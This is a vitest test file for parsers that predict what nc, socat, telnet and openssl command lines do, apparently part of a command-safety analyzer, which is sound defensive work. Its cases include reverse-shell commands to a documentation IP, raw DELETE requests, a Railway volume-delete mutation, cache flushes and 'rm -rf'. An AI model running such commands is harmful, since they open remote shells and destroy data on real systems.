import { describe, expect, it } from "vitest";
import type { Inner } from "../../../src/model/call.js";
import { netcatReaders } from "../../../src/readers/http/netcat.js";
import { opensslReader } from "../../../src/readers/http/openssl.js";
import { socatReader } from "../../../src/readers/http/socat.js";
import { railwayApis } from "../knowledge-files.js";
import { casesOf, networkCall, networkWorld, type Setting, showEffect } from "../network-world.js";

const text = (content: string) => ({ stdin: { kind: "text", text: content, from: "pipe" } }) as const;
const files = {
  "/home/dev/project/notes.txt": "x",
  "/home/dev/project/del.txt": "DELETE /x HTTP/1.0\r\n\r\n",
};
const request = "DELETE /x HTTP/1.1\r\nHost: example.com\r\n\r\n";
const deletes = ["delete DELETE http://example.com/x"];
const shell = ["opaque: whoever is at the other end of the connection gets a shell"];
const body = '{"query":"mutation{volumeDelete(volumeId:\\"v1\\")}"}';
const graphql = `POST /graphql/v2 HTTP/1.1\r\nHost: backboard.railway.com\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;

const sends: readonly (readonly [readonly string[], readonly string[], Setting])[] = [
  [["nc", "example.com", "80"], deletes, text(request)],
  [["nc", "-w", "3", "example.com", "80"], deletes, text(request)],
  [["ncat", "-C", "example.com", "80"], deletes, text(request.replaceAll("\r", ""))],
  [
    ["nc", "192.0.2.1", "8080"],
    ["delete DELETE http://192.0.2.1:8080/x"],
    text("DELETE /x HTTP/1.0\r\n\r\n"),
  ],
  [
    ["nc", "192.0.2.1", "80"],
    ["delete DELETE http://192.0.2.1/x"],
    text("DELETE /x HTTP/1.1\r\nHost: localhost\r\n\r\n"),
  ],
  [
    ["nc", "example.com", "80"],
    ["read GET http://example.com/", ...deletes],
    text(`GET / HTTP/1.1\r\nHost: example.com\r\n\r\n${request}`),
  ],
  [["nc", "backboard.railway.com", "80"], ["delete railway volume v1 (volumeDelete)"], text(graphql)],
  [["nc", "proxy", "3128"], deletes, text("DELETE http://example.com/x HTTP/1.1\r\n\r\n")],
  [
    ["nc", "-U", "/run/docker.sock"],
    ["delete DELETE http://unix:/run/docker.sock/x"],
    text("DELETE /x HTTP/1.0\n\n"),
  ],
  [["ncat", "--ssl", "example.com", "443"], ["delete DELETE https://example.com/x"], text(request)],
  [["telnet", "example.com", "80"], deletes, text(request)],
  [
    ["openssl", "s_client", "-quiet", "-connect", "example.com:443"],
    ["delete DELETE https://example.com/x"],
    text(request),
  ],
  [["socat", "-", "TCP:example.com:80"], deletes, text(request)],
  [["socat", "-t", "5", "STDIO", "tcp4:example.com:80,crnl"], deletes, text(request)],
  [["socat", "-", "SSL:example.com:443,verify=0"], ["delete DELETE https://example.com/x"], text(request)],
  [
    ["socat", "-", "/run/docker.sock"],
    ["delete DELETE http://unix:/run/docker.sock/x"],
    text("DELETE /x HTTP/1.0\n\n"),
  ],
  [
    ["nc", "example.com", "80"],
    ["send TCP /home/dev/project/del.txt", "delete DELETE http://example.com/x"],
    { stdin: { kind: "file", path: "del.txt" } },
  ],
  [["nc", "mc", "11211"], ["delete FLUSH_ALL mc:11211 flush_all"], text("flush_all\r\nquit\r\n")],
  [["nc", "mc", "11211"], [], text("stats\r\nquit\r\n")],
  [["nc", "log", "514"], [], text("a line that says delete\n")],
  [["nc", "-z", "example.com", "80"], [], text(request)],
  [["nc", "-l", "80"], [], text(request)],
  [["nc", "example.com", "22"], [], { stdin: { kind: "unknown", reason: "a pipe" } }],
  [["nc", "example.com", "80"], [], { stdin: { kind: "unknown", reason: "a pipe" } }],
  [
    ["nc", "example.com", "80"],
    ["opaque: what it sends cannot be foreseen: a pipe"],
    { stdin: { kind: "unknown", reason: "a pipe" }, sight: "never" },
  ],
  [["nc", "-e", "/bin/sh", "192.0.2.1", "4444"], shell, {}],
  [["nc", "-lvnp", "4444", "-e", "/bin/bash"], shell, {}],
  [["nc", "-c", "bash -i", "192.0.2.1", "4444"], shell, {}],
  [["ncat", "--exec=/usr/bin/python3", "-l", "4444"], shell, {}],
  [["ncat", "--lua-exec", "x.lua", "-l", "4444"], ["opaque: it ties a Lua script to a connection"], {}],
  [
    ["nc", "-e", "$SHELL", "192.0.2.1", "4444"],
    ['opaque: cannot tell what it would tie to a connection: variable "SHELL" is not set'],
    {},
  ],
  [["nc", "-c", "example.com", "443"], [], {}],
  [["nc", "-o", "notes.txt", "example.com", "80"], ["modify file /home/dev/project/notes.txt"], {}],
  [["nc", "-X", "5", "-x", "proxy:1080", "example.com", "22"], [], {}],
  [["socat", "TCP:192.0.2.1:4444", "EXEC:bash -li,pty,stderr"], shell, {}],
  [["socat", "TCP-L:4444,fork", "SYSTEM:sh"], shell, {}],
  [["socat", "-d", "-d", "pty,raw", "EXEC:bash"], [], {}],
  [
    ["socat", "-u", "TCP:example.com:80", "CREATE:notes.txt"],
    ["modify file /home/dev/project/notes.txt"],
    {},
  ],
  [["socat", "-u", "TCP:example.com:80", "OPEN:notes.txt,creat,append"], [], {}],
  [["socat", "-", "OPEN:notes.txt,trunc"], ["modify file /home/dev/project/notes.txt"], {}],
  [["socat", "-", "OPEN:notes.txt,unlink"], ["delete file /home/dev/project/notes.txt"], {}],
  [["socat", "TCP-LISTEN:80,fork", "TCP:db:5432"], [], {}],
  [["socat", "$A", "$B"], ['opaque: it may name a program: variable "A" is not set'], {}],
  [["openssl", "genrsa", "-out", "notes.txt"], ["modify file /home/dev/project/notes.txt"], {}],
  [["openssl", "rand", "-hex", "32"], [], {}],
];

const readers = [...netcatReaders(railwayApis), socatReader(railwayApis), opensslReader(railwayApis)];

function read(words: readonly string[], setting: Setting) {
  const reader = readers.find(({ names }) => names.includes(words[0] ?? ""));
  return reader?.read(networkCall(words, setting), networkWorld({ files, ...setting }));
}

describe("raw sockets", () => {
  it.each(casesOf(sends))("%j", (words, effects, setting) => {
    expect(read(words, setting)?.effects.map(showEffect)).toEqual(effects);
  });

  it.each([
    [["nc", "cache", "6379"], "FLUSHALL\n", "redis-cli -h cache -p 6379 < FLUSHALL"],
    [["nc", "cache", "7000"], "*2\r\n$3\r\nDEL\r\n$3\r\na b\r\n", 'redis-cli -h cache -p 7000 < DEL "a b"'],
    [["nc", "-U", "/run/redis.sock"], "FLUSHDB\n", "redis-cli -s /run/redis.sock < FLUSHDB"],
    [["nc", "-l", "-p", "80", "-c", "cat x"], "", "cat x"],
    [["socat", "TCP-LISTEN:80,fork", "EXEC:'rm -rf x'"], "", "rm -rf x"],
  ] as const)("%j passes %j on", (words, sent, expected) => {
    expect(read(words, text(sent))?.inner.map(showInner)).toEqual([expected]);
  });

  it.each([
    [["nc", "example.com", "80"], true],
    [["nc", "example.com", "9"], false],
    [["nc", "-z", "example.com", "80"], false],
    [["openssl", "s_client", "-connect", "example.com:443"], true],
  ] as const)("%j wants stdin: %s", (words, wants) => {
    expect(read(words, { stdin: { kind: "unknown", reason: "a pipe" } })?.wantsStdin).toBe(wants);
  });
});

function showInner(inner: Inner): string {
  if (inner.kind === "line") return inner.text;
  return `${inner.argv.join(" ")} < ${inner.stdin?.kind === "text" ? inner.stdin.text.trim() : ""}`;
}
